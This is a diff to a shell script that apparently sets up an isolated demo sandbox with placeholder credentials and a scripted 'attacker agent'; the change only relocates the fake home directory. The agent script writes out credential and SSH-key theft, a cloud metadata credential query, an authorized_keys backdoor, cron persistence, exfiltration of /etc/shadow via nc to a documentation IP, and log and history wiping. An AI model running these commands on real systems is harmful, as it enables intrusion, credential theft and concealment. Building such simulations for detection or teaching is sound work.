@@ -27,7 +27,7 @@ trap cleanup EXIT
 mkdir "$work/root"
 mount -t tmpfs demo "$work/root"
 root=$work/root
-mkdir -p "$root"/{bin,etc/cron.d,root/.ssh,root/.aws,tmp,proc,run,var/log,var/www/cgi-bin,old}
+mkdir -p "$root"/{bin,etc/cron.d,home/deploy/.ssh,home/deploy/.aws,tmp,proc,run,var/log,var/www/cgi-bin,old}
 cp /bin/busybox "$root/bin/busybox"
 # A real shell beside it, because busybox's own runs its tools under the name `exe`.
 cp /bin/dash "$root/bin/sh"
@@ -40,10 +40,10 @@ for name in httpd wget cat chmod id uname grep nc mkdir sleep ls tail crontab wh
 done
 echo 'root:x:0:0:root:/root:/bin/sh' >"$root/etc/passwd"
 echo 'root:$6$demo$notapassword:20000:0:99999:7:::' >"$root/etc/shadow"
-echo 'demo key, not a real one' >"$root/root/.ssh/id_ed25519"
-printf '[default]\naws_secret_access_key = demo-only\n' >"$root/root/.aws/credentials"
+echo 'demo key, not a real one' >"$root/home/deploy/.ssh/id_ed25519"
+printf '[default]\naws_secret_access_key = demo-only\n' >"$root/home/deploy/.aws/credentials"
 echo 'sshd: accepted' >"$root/var/log/auth.log"
-echo 'ls -la' >"$root/root/.ash_history"
+echo 'ls -la' >"$root/home/deploy/.ash_history"
 mkfifo "$root/run/go"
 mkdir "$root/dev"
 mknod -m 666 "$root/dev/null" c 1 3
@@ -68,18 +68,18 @@ cat >"$work/attacker/agent" <<'AGENT'
 whoami
 cat /etc/shadow
 sleep 1
-grep -r aws_secret_access_key /root/.aws
-cat /root/.ssh/id_ed25519
+grep -r aws_secret_access_key /home/deploy/.aws
+cat /home/deploy/.ssh/id_ed25519
 sleep 1
 wget -q -O - http://169.254.169.254/latest/meta-data/iam/security-credentials/web
 sleep 1
-mkdir -p /root/.ssh
-echo 'ssh-ed25519 AAAA demo' >> /root/.ssh/authorized_keys
+mkdir -p /home/deploy/.ssh
+echo 'ssh-ed25519 AAAA demo' >> /home/deploy/.ssh/authorized_keys
 echo '* * * * * root /tmp/.cache/agent' > /etc/cron.d/refresh
 sleep 1
 cat /etc/shadow | nc -w 1 203.0.113.66 4444
 : > /var/log/auth.log
-: > /root/.ash_history
+: > /home/deploy/.ash_history
 AGENT
 
 ip netns add "$net"
@@ -107,7 +107,7 @@ mount --bind '$root' '$root'
 mount -t proc proc '$root/proc'
 cd '$root'
 /usr/sbin/pivot_root . old
-exec /bin/busybox env -i PATH=/bin HOME=/root /bin/busybox sh -c 'busybox umount -l /old; exec >/dev/null 2>&1; exec /bin/sh /init'
+exec /bin/busybox env -i PATH=/bin HOME=/home/deploy /bin/busybox sh -c 'busybox umount -l /old; exec >/dev/null 2>&1; exec /bin/sh /init'
 ENTER
 sh -c "echo \$\$ > '$cgroup/cgroup.procs'; exec ip netns exec '$net' unshare --pid --fork --mount --uts --ipc sh '$work/enter'" & pids+=($!)
 sleep 1
